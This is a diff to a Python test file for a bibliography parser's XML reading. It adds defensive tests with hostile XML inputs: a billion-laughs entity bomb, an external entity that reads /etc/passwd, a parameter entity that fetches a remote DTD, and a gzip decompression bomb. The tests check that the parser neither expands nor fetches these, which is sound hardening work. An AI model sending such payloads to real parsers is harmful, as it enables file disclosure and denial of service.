@@ -1,6 +1,7 @@
 """Whatever a source holds: it is read without an exception, its work grows as it does."""
 
 import re
+import tracemalloc
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -10,8 +11,10 @@ from hypothesis import strategies as st
 
 import bibkit
 from bibkit import registry
+from bibkit.errors import UnreadableError
 from bibkit.inputs import Input
 from bibkit.model import Citation
+from bibkit.parsers import xmltree
 from tests.sources.test_samples import FORMATS, SAMPLES
 
 TAGGED = [name for name in FORMATS if registry.find(name).table.syntax["module"] == "blocks"]
@@ -88,6 +91,37 @@ def test_a_source_in_pieces_says_the_same(path: Path, size: int) -> None:
     assert list(parser.parse(Input(again), lambda _: None)) == whole
 
 
+LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
+HOSTILE = {
+    "billion laughs": (
+        f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><dblp><article key="a/b/c">'
+        "<title>&l9;</title></article></dblp>",
+        "&l9;",
+    ),
+    "a file of the machine": (
+        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><dblp><article key="a/b/c">'
+        "<title>&f;</title></article></dblp>",
+        "&f;",
+    ),
+    "a parameter entity of another host": (
+        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd">%p;]>'
+        '<dblp><article key="a/b/c"><title>T</title></article></dblp>',
+        "T",
+    ),
+    "a document type inside of the document": (
+        '<dblp><!DOCTYPE x [<!ENTITY a "b">]><article key="a/b/c"><title>&a;</title>'
+        "</article></dblp>",
+        "&a;",
+    ),
+}
+
+
+@pytest.mark.parametrize(("text", "title"), HOSTILE.values(), ids=HOSTILE.keys())
+def test_no_entity_is_expanded_and_nothing_fetched(text: str, title: str) -> None:
+    (citation,), told = read(text, "dblp")
+    assert (citation.title, told) == (title, [])
+
+
 @pytest.mark.parametrize("format", IN_XML)
 def test_deep_nesting_is_refused_for_one_record(format: str) -> None:
     name = registry.find(format).table.syntax["records"][0]
@@ -95,6 +129,66 @@ def test_deep_nesting_is_refused_for_one_record(format: str) -> None:
     citations, told = read(f"<x>{deep}<{name}><b>1</b></{name}></x>", format)
     assert len(citations) == 2
     assert told[0] == "failed-record"
+
+
+def test_a_record_without_an_end_has_a_limit(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(xmltree, "LONGEST", 1000)
+
+    def pieces() -> Iterator[str]:
+        yield '<dblp><article key="a/b/c"><title>'
+        for _ in range(1000):
+            yield "x" * 100 + "\n"
+
+    with pytest.raises(UnreadableError, match="without the end of a record"):
+        list(registry.find("dblp").parse(Input(pieces, "a.xml"), lambda _: None))
+
+
+def test_a_compressed_file_is_no_text() -> None:
+    import gzip
+
+    bomb = gzip.compress(b"<dblp>" + b" " * 10_000_000)
+    with pytest.raises(UnreadableError, match="compressed"):
+        list(bibkit.read(bomb, "dblp"))
+
+
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "<!--",
+        "<![CDATA[",
+        "<article ",
+        '<article a="',
+        "<article>",
+        "&",
+        "&a",
+        "</article>",
+        "<",
+    ],
+)
+def test_repeated_marks_take_no_longer_than_they_are(unit: str) -> None:
+    text = f'<dblp><article key="a/b/c"><title>x</title>{unit * 20_000}'
+    citations, _ = read(text, "dblp")
+    assert citations
+
+
+def test_records_stream_in_bounded_memory() -> None:
+    record = (
+        '<article key="journals/x/Doe{n}" mdate="2020-01-01"><author>Jane Doe</author>'
+        "<title>On number {n}.</title><year>2020</year><journal>J. Ex.</journal></article>\n"
+    )
+
+    def pieces() -> Iterator[str]:
+        yield "<dblp>\n"
+        for start in range(0, 20_000, 100):
+            yield "".join(record.format(n=n) for n in range(start, start + 100))
+        yield "</dblp>\n"
+
+    tracemalloc.start()
+    count = sum(1 for _ in registry.find("dblp").parse(Input(pieces), lambda _: None))
+    _, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert count == 20_000
+    assert peak < 2_000_000
 
 
 OTHERS = {
